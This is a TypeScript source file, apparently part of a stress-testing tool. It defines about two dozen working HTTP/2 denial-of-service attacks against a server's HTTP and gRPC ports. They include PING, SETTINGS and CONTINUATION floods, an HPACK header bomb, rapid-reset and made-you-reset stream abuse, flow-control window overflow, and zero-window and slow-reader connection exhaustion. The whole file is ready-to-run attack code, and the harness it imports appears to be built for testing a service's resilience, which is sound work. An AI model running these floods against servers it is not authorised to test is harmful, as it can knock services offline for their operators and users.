/** Attacks with HTTP/2 frames, the same on both ports. */
import {
  concat,
  CONTINUATION,
  DATA,
  DEFAULT_WINDOW,
  END_HEADERS,
  END_STREAM,
  type Fields,
  frame,
  HEADERS,
  indexedLiteral,
  INITIAL_WINDOW_SIZE,
  literals,
  MAX_WINDOW,
  NEWEST_ENTRY,
  ping,
  PREFACE,
  PRIORITY,
  repeat,
  reset,
  SETTINGS,
  settings,
  uint32,
  windowUpdate,
} from "../frames.ts";
import { pause, type Target, type Wire } from "../target.ts";
import type { Attack } from "./attack.ts";
import { getFields, grpcFields, headers, HEALTH_CHECK, OPENING, postFields } from "./requests.ts";

const CONNECTIONS = 2;
const ONE_STREAM_EACH = 2;

/** Differences between the ports: a request without a body, and the head of one with a body. */
interface Kind {
  port: "http" | "grpc";
  whole: Fields;
  open: Fields;
  unknown: Fields;
}

const KINDS: Kind[] = [
  { port: "http", whole: getFields("/healthz"), open: postFields("/graphql"), unknown: getFields("/a.B/C") },
  {
    port: "grpc",
    whole: grpcFields(HEALTH_CHECK),
    open: grpcFields(HEALTH_CHECK),
    unknown: grpcFields("/a.B/C"),
  },
];

export const FLOODS: Attack[] = KINDS.flatMap((kind) => [
  ...controlFrames(kind),
  ...headerBlocks(kind),
  ...streams(kind),
]);

/** Repeatedly sends the same bytes on a few connections. */
function flood(bytes: Uint8Array, { opening = OPENING, reads = true } = {}): Attack["run"] {
  return (target) =>
    target.keep(CONNECTIONS, async (wire) => {
      await wire.send(opening);
      while (await wire.send(bytes));
    }, reads);
}

/** Sends batches of bytes that depend on the stream ID. */
function numbered(
  bytes: (stream: number) => Uint8Array,
  { lot = 100, most = Infinity, reads = true, opening = OPENING } = {},
): Attack["run"] {
  return (target) =>
    target.keep(CONNECTIONS, async (wire) => {
      await wire.send(opening);
      let stream = 1;
      const next = () => {
        const made = bytes(stream);
        stream += ONE_STREAM_EACH;
        return made;
      };
      while (stream < most * ONE_STREAM_EACH && stream < MAX_WINDOW - 1_000) {
        if (!await wire.send(concat(Array.from({ length: lot }, next)))) return;
      }
    }, reads);
}

function controlFrames({ port, open }: Kind): Attack[] {
  const attack = (name: string, sends: string, run: Attack["run"]): Attack => ({
    name: `${port}-${name}`,
    sends,
    port,
    run,
  });
  const priority = (stream: number) => frame(PRIORITY, 0, stream, concat([uint32(0), Uint8Array.of(1)]));
  const opened = concat([OPENING, headers(1, open)]);
  return [
    attack("ping-flood", "PING without end", flood(repeat(ping(), 500))),
    attack(
      "ping-unread",
      "PING without end, reading no answer",
      flood(repeat(ping(), 500), { reads: false }),
    ),
    attack("settings-flood", "SETTINGS without end", flood(repeat(settings([4, 65_535]), 500))),
    attack(
      "settings-unread",
      "SETTINGS without end, reading no answer",
      flood(repeat(frame(SETTINGS, 0, 0), 500), { reads: false }),
    ),
    attack("priority-flood", "PRIORITY without end", numbered(priority, { lot: 500 })),
    attack(
      "window-update-flood",
      "WINDOW_UPDATE of 1 without end, for the connection and for a stream",
      flood(repeat(concat([windowUpdate(0, 1), windowUpdate(1, 1)]), 500), { opening: opened }),
    ),
    attack("unknown-frames", "frames of an unknown type", flood(repeat(frame(0x50, 0, 0), 500))),
  ];
}

function headerBlocks({ port, whole, open }: Kind): Attack[] {
  const attack = (name: string, sends: string, run: Attack["run"]): Attack => ({
    name: `${port}-${name}`,
    sends,
    port,
    run,
  });
  const many = literals(Array.from({ length: 300 }, (_, at) => [`x-${at}`, "y".repeat(40)] as const));
  const begun = concat([OPENING, frame(HEADERS, 0, 1, literals(whole))]);
  const bomb = indexedLiteral("x", "y".repeat(3_900));
  const references = new Uint8Array(15_000).fill(NEWEST_ENTRY);
  const large = (stream: number) =>
    concat([
      frame(HEADERS, 0, stream, literals(whole)),
      ...Array.from({ length: 60 }, () => frame(CONTINUATION, 0, stream, many)),
      frame(CONTINUATION, END_HEADERS, stream),
    ]);
  return [
    attack(
      "continuation-flood",
      "CONTINUATION without end",
      flood(frame(CONTINUATION, 0, 1, many), {
        opening: begun,
      }),
    ),
    attack(
      "continuation-empty",
      "empty CONTINUATION without end",
      flood(repeat(frame(CONTINUATION, 0, 1), 500), { opening: begun }),
    ),
    attack(
      "headers-empty",
      "HEADERS without a field",
      numbered((stream) => frame(HEADERS, END_HEADERS, stream)),
    ),
    attack("headers-large", "header lists of 900 KB", numbered(large, { lot: 1 })),
    attack(
      "hpack-bomb",
      "15,000 references to one header of 3.9 KB in each HEADERS",
      numbered(
        (stream) =>
          stream === 1
            ? frame(HEADERS, END_HEADERS, stream, concat([literals(whole), bomb]))
            : frame(HEADERS, END_HEADERS, stream, concat([literals(open), references])),
        { lot: 1 },
      ),
    ),
  ];
}

function streams({ port, whole, open, unknown }: Kind): Attack[] {
  const attack = (name: string, sends: string, run: Attack["run"], more: Partial<Attack> = {}): Attack => ({
    name: `${port}-${name}`,
    sends,
    port,
    run,
    ...more,
  });
  const canceled = (stream: number) => concat([headers(stream, open), reset(stream)]);
  const resetByServer = (stream: number) => concat([headers(stream, open), windowUpdate(stream, 0)]);
  const get = getFields("/");
  const manyAtOnce = (fields: Fields, count: number) =>
    concat(Array.from({ length: count }, (_, at) => headers(at * 2 + 1, fields, true)));
  /** Sends everything in one write, waits for the responses, and starts again. */
  const again = (bytes: Uint8Array): Attack["run"] => (target) =>
    target.keep(4 * CONNECTIONS, async (wire) => {
      await wire.send(OPENING);
      await pause(20); // the limits of the server's SETTINGS apply once they are acknowledged
      await wire.send(bytes);
      await Promise.race([wire.over, pause(400)]);
    });
  const overflow = concat([headers(1, get, true), windowUpdate(0, MAX_WINDOW), windowUpdate(0, MAX_WINDOW)]);
  const overflowLate: Attack["run"] = (target) =>
    target.keep(CONNECTIONS, async (wire) => {
      await wire.send(concat([OPENING, headers(1, get, true)]));
      await pause(50);
      await wire.send(concat([windowUpdate(1, MAX_WINDOW), windowUpdate(1, MAX_WINDOW)]));
      await pause(20);
      await wire.send(concat([windowUpdate(0, MAX_WINDOW), windowUpdate(0, MAX_WINDOW)]));
    });
  return [
    attack("double-headers", "two HEADERS of one stream", again(repeat(headers(1, get, true), 2))),
    attack(
      "double-headers-unknown",
      "two HEADERS of one stream, of a path that is not there",
      again(repeat(headers(1, unknown, true), 2)),
    ),
    attack("over-stream-limit", "150 streams at once", again(manyAtOnce(get, 150))),
    attack(
      "unknown-path",
      "400 streams at once of a path that is not there",
      again(manyAtOnce(unknown, 400)),
    ),
    attack("window-overflow", "a request, and a window of more than 2^31-1", again(overflow)),
    attack("window-overflow-late", "a window of more than 2^31-1 after an answer", overflowLate),
    attack("rapid-reset", "streams that are canceled at once", numbered(canceled)),
    attack(
      "rapid-reset-reconnect",
      "900 streams that are canceled at once, then another connection",
      numbered(canceled, { lot: 300, most: 900 }),
    ),
    attack("made-you-reset", "streams that the server has to reset", numbered(resetByServer)),
    attack(
      "made-you-reset-reconnect",
      "90 streams that the server has to reset, then another connection",
      numbered(resetByServer, { lot: 90, most: 90 }),
    ),
    attack("data-one-byte", "DATA of one byte on 90 streams", (target) => oneByteFrames(target, open), {
      bytesPerSecond: 3_000_000,
    }),
    attack("data-empty", "empty DATA without end", (target) =>
      target.keep(CONNECTIONS, async (wire) => {
        await wire.send(concat([OPENING, headers(1, open)]));
        while (await wire.send(repeat(frame(DATA, 0, 1), 500)));
      })),
    attack(
      "zero-window",
      "100 requests on each of 50 connections with a window of 0",
      (target) => target.crowd(50, (wire) => unread(wire, whole)),
    ),
    attack(
      "slow-reader",
      "100 requests on each of 50 connections, a byte of window each 200 ms",
      (target) =>
        target.crowd(50, async (wire) => {
          await unread(wire, whole);
          for (let stream = 1; !wire.closed && !target.signal.aborted; stream = (stream + 2) % 200) {
            await pause(200);
            await wire.send(windowUpdate(stream, 1));
          }
        }),
    ),
  ];
}

async function unread(wire: Wire, fields: Fields): Promise<void> {
  const requests = Array.from({ length: 100 }, (_, at) =>
    concat([
      headers(at * 2 + 1, fields),
      frame(DATA, END_STREAM, at * 2 + 1, new Uint8Array(5)),
    ]));
  await wire.send(concat([PREFACE, settings([INITIAL_WINDOW_SIZE, 0]), ...requests]));
}

/** Respects the server's flow control, and reconnects when a window is used up. */
function oneByteFrames(target: Target, open: Fields): Promise<void> {
  const STREAMS = 90;
  const ids = Array.from({ length: STREAMS }, (_, at) => at * 2 + 1);
  const lot = concat(ids.map((id) => frame(DATA, 0, id, Uint8Array.of(0x20))));
  return target.keep(CONNECTIONS, async (wire) => {
    await wire.send(concat([OPENING, ...ids.map((id) => headers(id, open))]));
    let blocked = 0;
    while (blocked < 20) {
      const room = Math.min(Math.floor(wire.credit(0) / STREAMS), DEFAULT_WINDOW, ...ids.map(wire.credit));
      if (room < 1) {
        blocked++;
        await pause(50);
        continue;
      }
      blocked = 0;
      const lots = Math.min(room, 10);
      for (const id of ids) wire.spend(id, lots);
      if (!await wire.send(repeat(lot, lots))) return;
    }
  });
}
